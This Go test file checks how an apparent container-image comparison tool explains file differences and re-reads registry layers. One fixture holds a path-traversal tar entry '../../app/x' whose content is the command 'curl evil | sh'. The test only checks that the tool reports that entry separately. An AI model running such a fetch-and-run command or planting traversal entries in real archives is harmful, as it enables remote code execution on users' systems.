package compare_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/reprover/reprover/compare"
	"github.com/reprover/reprover/fixtures"
	"github.com/reprover/reprover/image"
)

// TestExplainReadsTheReportedEntry: explaining a difference reads the
// content of the entry the report names, not of another entry whose name
// cleans to the same path (a "../../app/x" after "app/x" in a layer, which
// the walk reports as a non-local name of its own).
func TestExplainReadsTheReportedEntry(t *testing.T) {
	base := []fixtures.Step{{Instruction: "ADD rootfs.tar /", Entries: []fixtures.Entry{fixtures.Dir("app")}}}
	img := func(entries ...fixtures.Entry) any {
		return fixtures.Image(fixtures.Spec{Steps: append(base, fixtures.Step{Instruction: "RUN make", Entries: entries})})
	}
	a := img(fixtures.File("app/x", "stamp 2025-03-01T12:00:00Z\n"))
	b := img(fixtures.File("app/x", "stamp 2025-03-01T12:01:35Z\n"), fixtures.File("../../app/x", "curl evil | sh\n"))
	reg := fixtures.NewRegistry(t)
	var sides [2]*image.Resolved
	for i, x := range []any{a, b} {
		r, err := image.Open(t.Context(), reg.MustPush(t, "explain/climbing", []string{"a", "b"}[i], x), image.Options{})
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		sides[i] = r
	}
	rep, err := compare.Images(t.Context(), sides[0], sides[1], compare.Options{})
	if err != nil {
		t.Fatal(err)
	}
	causes := map[string]string{}
	for _, f := range rep.Platforms[0].Files {
		causes[f.Path] = f.Cause + ": " + f.Evidence
	}
	if got := causes["/app/x"]; got != `timestamp: times (outside the builds' known window): "2025-03-01T12:00:00Z" vs "2025-03-01T12:01:35Z"` {
		t.Errorf("/app/x: %q, want the timestamp of the entry the report names", got)
	}
	if got := causes["/../../app/x"]; got != "unknown: only in the B image" {
		t.Errorf("/../../app/x: %q, want it reported apart, only in B", got)
	}
}

// TestExplainRereads: explaining reads a differing file's layer again
// only when the layer has an entry wanted, decompresses it only up to
// its last such entry (the last entry of a path wins), and uses its
// content only if it hashes as the comparison's walk found it: a blob
// served with other content the second time is an error, not an
// explanation, while bytes past what is used do not matter. The registry
// wrapper counts fetches and, where a case says so, serves another blob
// in place of the second fetch of one, or flips its last byte: faults a
// real registry cannot be made to produce on cue.
func TestExplainRereads(t *testing.T) {
	filler := make([]fixtures.Entry, 0, 64)
	for i := range 64 {
		filler = append(filler, fixtures.File(fmt.Sprintf("fill/%02d", i), strings.Repeat(fmt.Sprintf("filler %d ", i), 4096)))
	}
	upper := func(stamp string) []fixtures.Entry {
		es := append([]fixtures.Entry{fixtures.File("app/x", "stamp 2025-03-01T00:00:00Z\n")}, filler...)
		return append(es, fixtures.File("app/x", "stamp "+stamp+"\n"))
	}
	img := func(stamp string) any {
		return fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{
			{Instruction: "ADD rootfs.tar /", Entries: []fixtures.Entry{fixtures.Dir("app")}},
			{Instruction: "RUN make", Entries: upper(stamp)},
			{Instruction: "COPY doc /doc", Entries: []fixtures.Entry{fixtures.File("doc/README", "same on both sides\n")}},
		}})
	}
	for _, tc := range []struct {
		name          string
		swap, trailer bool
		wantErr       string
	}{
		{name: "faithful"},
		{name: "another blob on the second fetch", swap: true, wantErr: "the layer changed between the reads"},
		{name: "the gzip trailer flipped on the second fetch, past what is read", trailer: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var mu sync.Mutex
			gets := map[string]int{}
			bodies := map[string][]byte{}
			var victim, other string
			reg := fixtures.StartRegistry(func(next http.Handler) http.Handler {
				return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					d := r.URL.Path[strings.LastIndex(r.URL.Path, "/")+1:]
					if r.Method != http.MethodGet || !strings.Contains(r.URL.Path, "/blobs/") {
						next.ServeHTTP(w, r)
						return
					}
					rec := httptest.NewRecorder()
					next.ServeHTTP(rec, r)
					body := rec.Body.Bytes()
					mu.Lock()
					gets[d]++
					bodies[d] = slices.Clone(body)
					second := d == victim && gets[d] == 2
					switch {
					case second && tc.swap:
						body = bodies[other]
					case second && tc.trailer:
						body[len(body)-1] ^= 0xff
					}
					mu.Unlock()
					w.WriteHeader(rec.Code)
					w.Write(body)
				})
			})
			t.Cleanup(reg.Close)
			var sides [2]*image.Resolved
			for i, stamp := range []string{"2025-03-01T12:00:00Z", "2025-03-01T12:01:35Z"} {
				r, err := image.Open(t.Context(), reg.MustPush(t, "explain/reread", fmt.Sprint(i), img(stamp)), image.Options{})
				if err != nil {
					t.Fatal(err)
				}
				defer r.Close()
				sides[i] = r
			}
			run, doc := sides[1].Images[0].Layers[1].Descriptor.Digest.String(), sides[1].Images[0].Layers[2].Descriptor.Digest.String()
			mu.Lock()
			victim, other = run, sides[0].Images[0].Layers[1].Descriptor.Digest.String()
			clear(gets)
			mu.Unlock()
			rep, err := compare.Images(t.Context(), sides[0], sides[1], compare.Options{})
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) || !strings.Contains(err.Error(), run) {
					t.Fatalf("err = %v, want %q naming layer %s", err, tc.wantErr, run)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			var got string
			for _, f := range rep.Platforms[0].Files {
				if f.Path == "/app/x" {
					got = f.Cause + ": " + f.Evidence
				}
			}
			if want := `timestamp: times (outside the builds' known window): "2025-03-01T12:00:00Z" vs "2025-03-01T12:01:35Z"`; got != want {
				t.Errorf("/app/x: %q, want %q (the layer's last entry)", got, want)
			}
			if gets[run] != 2 {
				t.Errorf("the differing layer was fetched %d times, want 2 (walk, explanation)", gets[run])
			}
			if gets[doc] != 1 {
				t.Errorf("the layer without a differing file was fetched %d times, want 1 (walk only)", gets[doc])
			}
		})
	}
}
